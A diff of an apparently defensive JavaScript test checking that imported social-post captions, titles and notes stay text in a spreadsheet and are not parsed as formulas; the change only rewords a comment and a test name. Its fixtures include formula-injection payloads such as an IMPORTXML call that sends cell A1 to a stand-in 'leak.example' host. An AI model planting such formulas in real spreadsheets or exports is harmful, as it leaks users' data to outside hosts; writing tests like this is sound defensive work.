@@ -6,7 +6,7 @@ const profile = 'https://photo.example/hostile';
 const item = 'item-1';
 const campaignId = '0193481a-0000-7000-8000-000000000001';
 
-/** Invented texts that a spreadsheet would take for something else. */
+/** Invented texts that a spreadsheet could parse as formulas, numbers or dates. */
 const texts = [
   '=IMPORTXML("http://leak.example/?"&A1,"//a")',
   '=HYPERLINK("http://leak.example","free")',
@@ -58,7 +58,7 @@ afterEach(() => {
   delete process.env.TZ;
 });
 
-test('whatever captions, titles, names and notes begin with, they stay text, and no cell but ours is a formula', async () => {
+test('captions, titles, names and notes stay text whatever they begin with, and no other cell becomes a formula', async () => {
   const file = await openFile();
   const end = texts.length;
   file.type('A1', `=SOCIAL_POSTS("${profile}", 20, "id,title,caption,likes")`);
